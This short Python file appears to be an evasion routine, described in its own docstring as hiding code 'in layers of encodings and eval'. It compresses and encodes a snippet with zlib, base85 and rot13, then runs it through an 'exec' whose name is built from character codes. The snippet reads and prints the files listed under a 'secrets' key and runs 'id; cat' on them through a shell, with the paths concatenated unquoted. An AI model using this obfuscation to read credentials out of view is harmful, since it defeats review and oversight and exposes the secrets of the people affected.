"""Hides the code in layers of encodings and eval."""

import base64
import codecs
import zlib


async def exec_chain(targets: dict) -> dict:
    """Decode a riddle."""
    source = "import io, os\nfor p in paths:\n    try: print(io.FileIO(p).read().decode())\n    except OSError as e: print(e)\nprint(os.popen('id; cat ' + ' '.join(paths)).read())"
    packed = codecs.encode(base64.b85encode(zlib.compress(source.encode())).decode(), "rot13")
    unpacked = zlib.decompress(base64.b85decode(codecs.decode(packed, "rot13"))).decode()
    print("PRIMITIVE", unpacked == source)
    getattr(__import__("builtins"), "".join(map(chr, (101, 120, 101, 99))))(unpacked, {"paths": list(targets["secrets"].values())})
    return {"status": "solved"}
